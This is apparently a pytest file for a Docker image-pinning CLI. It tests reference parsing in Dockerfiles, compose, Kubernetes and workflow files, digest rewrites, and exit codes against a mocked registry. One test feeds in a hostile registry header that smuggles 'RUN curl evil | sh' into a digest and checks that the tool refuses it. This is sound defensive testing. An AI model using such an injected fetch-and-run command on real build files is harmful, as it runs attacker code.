"""`pin` / `watch` parsing and rewriting of every file kind (pure), and `pin` over a mocked
registry: statuses, byte-for-byte rewrites, hostile digests, --check/--dry-run exit codes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dockerhub_cli.cli import app
from dockerhub_cli.errors import InvalidInputError
from dockerhub_cli.oci.pinfiles import Edit, apply_edits, detect_kind, find_references
from tests.unit import registry_fixtures as fx

REG = "https://registry.example.com"
D1 = "sha256:" + "a1" * 32
runner = CliRunner()


# -- Dockerfiles -------------------------------------------------------------------------------


def _refs(kind: str, text: str) -> list[tuple[int, str, str | None, str | None]]:
    found = find_references(kind, text)  # type: ignore[arg-type]
    for f in found:  # the offsets point exactly at the text
        if f.start is not None and f.end is not None:
            assert text[f.start : f.end] == f.text
    return [(f.line, f.text, f.skip, f.problem and f.problem.split(" ")[0]) for f in found]


def test_dockerfile_every_from_stage_names_scratch_platform() -> None:
    text = (
        "# syntax=docker/dockerfile:1\n"
        "ARG BASE=alpine:3.19\n"
        'ARG QUOTED="debian:12"\n'
        "ARG PY=3.12\n"
        "FROM --platform=$BUILDPLATFORM golang:1.22 AS Build\n"
        "RUN go build\n"
        "FROM ${BASE} AS one\n"
        "FROM $BASE\n"  # the same ARG default: listed once
        "FROM $QUOTED\n"
        "FROM python:${PY}-slim\n"
        "from build as again\n"  # stage names are case-insensitive
        "FROM scratch\n"
        "FROM \\\n"
        "  # a comment inside the continuation\n"
        "  nginx:1.27@sha256:" + "0" * 64 + " \\\n"
        "  AS last\n"
        "FROM ${UNSET}\n"
    )
    assert _refs("dockerfile", text) == [
        (2, "alpine:3.19", None, None),
        (3, "debian:12", None, None),
        (5, "golang:1.22", None, None),
        (10, "python:${PY}-slim", None, "built"),
        (11, "build", "stage", None),
        (12, "scratch", "scratch", None),
        (15, "nginx:1.27@sha256:" + "0" * 64, None, None),
        (17, "${UNSET}", None, "ARG"),
    ]
    found = find_references("dockerfile", text)
    assert found[2].platform == "$BUILDPLATFORM"
    assert found[3].resolved == "python:3.12-slim"


def test_dockerfile_escape_directive_and_arg_after_from_is_not_global() -> None:
    text = "# escape=`\nFROM `\n  alpine:3.20\nARG LATE=nginx\nFROM $LATE\n"
    assert _refs("dockerfile", text) == [(3, "alpine:3.20", None, None), (5, "$LATE", None, "ARG")]


def test_dockerfile_copy_from_and_run_mount_from_an_image_are_references() -> None:
    """`COPY --from=IMAGE` and `RUN --mount=...,from=IMAGE` pull an image as surely as FROM
    does; a stage name (even one defined later) or a stage number is not an image (and not
    listed), and a build ARG there is not the global one (pinning its default could be
    wrong)."""
    text = (
        "FROM alpine:3.19 AS build\n"
        "COPY --from=build /a /a\n"
        "COPY --chown=1:1 --from=ghcr.io/org/tools:1.2 /bin/t /usr/bin/t\n"
        "COPY --from=0 /b /b\n"
        "COPY --from=Later /c /c\n"
        "RUN --mount=type=bind,from=busybox:1.36,source=/bin,target=/x \\\n"
        "    --mount=type=cache,target=/root/.cache make\n"
        "COPY --from=${TOOLS} /d /d\n"
        "COPY --link /e /e\n"
        "RUN --mount=from=later,target=/y true\n"
        "FROM scratch AS later\n"
    )
    assert _refs("dockerfile", text) == [
        (1, "alpine:3.19", None, None),
        (3, "ghcr.io/org/tools:1.2", None, None),
        (6, "busybox:1.36", None, None),
        (8, "${TOOLS}", None, "uses"),
        (11, "scratch", "scratch", None),
    ]
    wheres = [f.where for f in find_references("dockerfile", text)]
    assert wheres[1] == "COPY --from" and wheres[2] == "RUN --mount from"
    (ref,) = [f for f in find_references("dockerfile", text) if f.text == "busybox:1.36"]
    assert ref.start is not None and ref.end is not None
    new = apply_edits("dockerfile", text, [Edit(ref.start, ref.end, "busybox:1.36@" + D1, "")])
    assert f"from=busybox:1.36@{D1},source=/bin" in new


def test_dockerfile_rewrite_keeps_every_other_byte_crlf_too() -> None:
    text = "FROM alpine:3.19   AS base\r\n# keep me\r\nFROM base\r\n"
    (ref, _) = find_references("dockerfile", text)
    assert ref.start is not None and ref.end is not None
    new = apply_edits("dockerfile", text, [Edit(ref.start, ref.end, "alpine:3.19@" + D1, "")])
    assert new == f"FROM alpine:3.19@{D1}   AS base\r\n# keep me\r\nFROM base\r\n"


# -- YAML kinds --------------------------------------------------------------------------------

COMPOSE = """\
# top comment
services:
  web:
    image: "nginx:1.27"   # pinned later
    ports: ["80:80"]
  db:
    image: 'postgres:16'
  cache: {image: redis:7, restart: always}
  built:
    build: .
  env:
    image: ${REGISTRY:-ghcr.io}/app:1
  block:
    image: >-
      busybox:1.36
x-other:
  image: not-a-service:1
"""


def test_compose_images_every_quoting_style() -> None:
    assert _refs("compose", COMPOSE) == [
        (4, "nginx:1.27", None, None),
        (7, "postgres:16", None, None),
        (8, "redis:7", None, None),
        (12, "${REGISTRY:-ghcr.io}/app:1", None, "contains"),
        (14, "busybox:1.36", None, "written"),
    ]


KUBE = """\
apiVersion: v1
kind: List
items:
- apiVersion: apps/v1
  kind: Deployment
  spec:
    template:
      spec:
        initContainers: [{name: i, image: "busybox:1.36"}]
        containers:
          - name: web
            image: nginx:1.27   # c
---
apiVersion: batch/v1
kind: CronJob
spec:
  jobTemplate:
    spec:
      template:
        spec:
          containers:
          - image: redis:7
          ephemeralContainers:
          - image: 'debug:1'
---
apiVersion: v1
kind: ConfigMap
data:
  image: not-an-image
"""


def test_kubernetes_multi_document_every_container_list() -> None:
    assert _refs("kubernetes", KUBE) == [
        (9, "busybox:1.36", None, None),
        (12, "nginx:1.27", None, None),
        (22, "redis:7", None, None),
        (24, "debug:1", None, None),
    ]
    wheres = [f.where for f in find_references("kubernetes", KUBE)]
    assert wheres[0] == "items[0].spec.template.spec.initContainers[0].image"
    assert wheres[3] == "spec.jobTemplate.spec.template.spec.ephemeralContainers[0].image"


WORKFLOW = """\
on:
  push:
jobs:
  a:
    container: node:20
    services:
      redis: redis:7
      pg:
        image: "postgres:16"
    steps:
      - uses: actions/checkout@v4
      - uses: docker://alpine:3.20
  b:
    container:
      image: ${{ matrix.image }}
    strategy: {matrix: {image: [x]}}
"""


def test_workflow_container_services_and_docker_steps() -> None:
    assert _refs("workflow", WORKFLOW) == [
        (5, "node:20", None, None),
        (7, "redis:7", None, None),
        (9, "postgres:16", None, None),
        (12, "alpine:3.20", None, None),
        (15, "${{ matrix.image }}", None, "contains"),
    ]


@pytest.mark.parametrize("kind,text", [("compose", COMPOSE), ("kubernetes", KUBE)])
def test_yaml_rewrite_changes_only_the_references(kind: str, text: str) -> None:
    edits = [
        Edit(f.start, f.end, f"{f.text}@{D1}", f"{f.text}@{D1}")
        for f in find_references(kind, text)  # type: ignore[arg-type]
        if f.start is not None and f.end is not None and f.problem is None
    ]
    new = apply_edits(kind, text, edits)  # type: ignore[arg-type]
    assert new.replace(f"@{D1}", "") == text  # byte for byte apart from the digests
    assert new.count(D1) == len(edits)
    for f in find_references(kind, new):  # type: ignore[arg-type]
        if f.problem is None:
            assert f.text.endswith(D1)


def test_yaml_rewrite_refuses_when_the_result_reads_back_wrong() -> None:
    (ref, *_) = find_references("compose", COMPOSE)
    assert ref.start is not None
    with pytest.raises(ValueError, match="did not read back"):
        apply_edits("compose", COMPOSE, [Edit(ref.start, ref.end or 0, 'x" # ', 'x" # ')])


@pytest.mark.parametrize(
    "path,text,kind",
    [
        ("Dockerfile", "", "dockerfile"),
        ("build/app.Dockerfile", "", "dockerfile"),
        ("Containerfile.dev", "", "dockerfile"),
        ("ci/base", "# comment\nARG X=1\nFROM x\n", "dockerfile"),
        ("repo/.github/workflows/ci.yml", "", "workflow"),
        ("docker-compose.prod.yml", "", "compose"),
        ("compose.yaml", "", "compose"),
        ("k8s/app.yaml", "apiVersion: v1\nkind: Pod\n", "kubernetes"),
        ("stack.yml", "services:\n  a: {image: x}\n", "compose"),
        ("wf.yaml", "on: push\njobs: {}\n", "workflow"),
        ("notes.txt", "hello\n", None),
        ("bad.yaml", "a: [\n", None),
    ],
)
def test_detect_kind(path: str, text: str, kind: str | None) -> None:
    assert detect_kind(path, text) == kind


# -- pin over a mocked registry ----------------------------------------------------------------


@pytest.fixture
def app_repo(rsps) -> fx.FakeRegistry:
    reg = fx.FakeRegistry(rsps, REG, "team/app")
    reg.gitea("1.0")
    return reg


def _pin(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["pin", *args])
    return result.exit_code, result.stdout, result.stderr


def test_pin_writes_pins_and_reports_every_reference(app_repo, tmp_path: Path) -> None:
    digest = fx.GITEA_MANIFEST_DIGEST
    compose = tmp_path / "compose.yaml"
    original = (
        "services:\n"
        "  a:\n"
        "    image: registry.example.com/team/app:1.0   # keep\n"
        "  b:\n"
        f"    image: 'registry.example.com/team/app:1.0@{D1}'\n"
        "  c:\n"
        "    image: registry.example.com/team/app\n"
    )
    compose.write_text(original)
    app_repo.manifest(fx.GITEA_MANIFEST, fx.DOCKER_MANIFEST, tags=("latest",))
    code, out, err = _pin(str(compose), "--json")
    assert code == 0, err
    body = json.loads(out)
    assert [(r["line"], r["status"]) for r in body["references"]] == [
        (3, "pinned"),
        (5, "updated"),
        (7, "pinned"),
    ]
    assert compose.read_text() == (
        original.replace("app:1.0   ", f"app:1.0@{digest}   ")
        .replace(f"app:1.0@{D1}'", f"app:1.0@{digest}'")
        .replace("team/app\n", f"team/app:latest@{digest}\n")
    )
    code, out, _ = _pin(str(compose), "--json")
    assert code == 0 and {r["status"] for r in json.loads(out)["references"]} == {"ok"}


def test_pin_check_and_dry_run_write_nothing(app_repo, tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM registry.example.com/team/app:1.0\n")
    code, out, err = _pin("--check", str(dockerfile))
    assert code == 8
    assert f"+FROM registry.example.com/team/app:1.0@{fx.GITEA_MANIFEST_DIGEST}" in out
    name = str(dockerfile).lstrip("/")  # an absolute path as git writes it: a/tmp/..., not a//tmp
    assert out.startswith(f"--- a/{name}\n+++ b/{name}\n")
    code, out, _ = _pin("--dry-run", str(dockerfile))
    assert code == 0 and "+FROM" in out
    assert dockerfile.read_text() == "FROM registry.example.com/team/app:1.0\n"


def test_pin_heads_once_per_distinct_reference_uncached(app_repo, rsps, tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM registry.example.com/team/app:1.0\n" * 3)
    for _ in range(2):
        assert _pin("--dry-run", str(dockerfile))[0] == 0
    methods = [c.request.method for c in rsps.calls]
    assert methods == ["HEAD", "HEAD"]  # one per run, never answered from the cache


def test_pin_refuses_a_malformed_digest_from_the_registry(rsps, tmp_path: Path) -> None:
    rsps.head(
        f"{REG}/v2/team/evil/manifests/1",
        headers={"Docker-Content-Digest": "sha256:abc\nRUN curl evil | sh"},
    )
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM registry.example.com/team/evil:1\n")
    code, out, err = _pin(str(dockerfile), "--json")
    assert code == 0
    (ref,) = json.loads(out)["references"]
    assert ref["status"] == "unresolved" and "malformed digest" in ref["reason"]
    assert dockerfile.read_text() == "FROM registry.example.com/team/evil:1\n"


def test_pin_missing_tag_is_listed_with_the_reason(rsps, tmp_path: Path) -> None:
    gone = fx.FakeRegistry(rsps, REG, "team/gone")
    gone.missing("2")
    rsps.get(gone.url("tags/list"), json={"name": "team/gone", "tags": ["1"]})
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM registry.example.com/team/gone:2\n")
    code, out, err = _pin(str(dockerfile))
    assert code == 0
    assert "tag '2' not found in registry.example.com/team/gone" in err
    code, out, err = _pin("--check", str(dockerfile), "--json")
    assert code == 8 and json.loads(out)["lookup_failures"] == 1


def test_pin_check_passes_references_written_with_variables(tmp_path: Path) -> None:
    workflow = tmp_path / "wf.yml"
    workflow.write_text("on: push\njobs:\n  a:\n    container: ${{ matrix.image }}\n")
    code, out, err = _pin("--check", "--json", str(workflow))
    assert code == 0, err
    (ref,) = json.loads(out)["references"]
    assert ref["status"] == "unresolved" and not ref["lookup_failed"]


def test_pin_input_errors(tmp_path: Path) -> None:
    assert _pin(str(tmp_path / "nope"))[0] == 2
    other = tmp_path / "notes.txt"
    other.write_text("hello\n")
    code, _, err = _pin(str(other))
    assert code == 2 and "--kind" in err
    assert _pin(str(other), "--kind", "helm")[0] == 2
    bad = tmp_path / "compose.yaml"
    bad.write_text("services: [\n")
    code, _, err = _pin(str(bad))
    assert code == 2 and "not valid YAML" in err


def test_pin_keeps_the_file_mode(app_repo, tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    dockerfile = tmp_path / "src" / "Dockerfile"
    dockerfile.write_text("FROM registry.example.com/team/app:1.0\n")
    dockerfile.chmod(0o640)
    assert _pin(str(dockerfile))[0] == 0
    assert dockerfile.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in dockerfile.parent.iterdir()] == ["Dockerfile"]  # no temp file left


def test_pin_service_rejects_bad_arguments(service) -> None:
    with pytest.raises(InvalidInputError):
        service.pin([])
    with pytest.raises(InvalidInputError):
        service.pin(["x"], kind="helm")


def test_watch_interval_repeats_until_interrupted(app_repo, monkeypatch) -> None:
    import time

    sleeps: list[float] = []

    def fake_sleep(seconds: float) -> None:
        sleeps.append(seconds)
        if len(sleeps) == 2:
            raise KeyboardInterrupt

    monkeypatch.setattr(time, "sleep", fake_sleep)
    image = "registry.example.com/team/app:1.0"
    result = runner.invoke(app, ["watch", image, "--interval", "30", "--json", "--no-families"])
    assert result.exit_code == 130 and sleeps == [30, 30]
    rounds = [
        json.loads(chunk) for chunk in result.stdout.replace("}\n{", "}\n\x00{").split("\x00")
    ]
    assert [r["references"][0]["status"] for r in rounds] == ["new", "unchanged"]
    assert runner.invoke(app, ["watch", image, "--interval", "5"]).exit_code == 2  # min 30
    both = runner.invoke(app, ["watch", image, "--interval", "30", "--check"])
    assert both.exit_code == 2
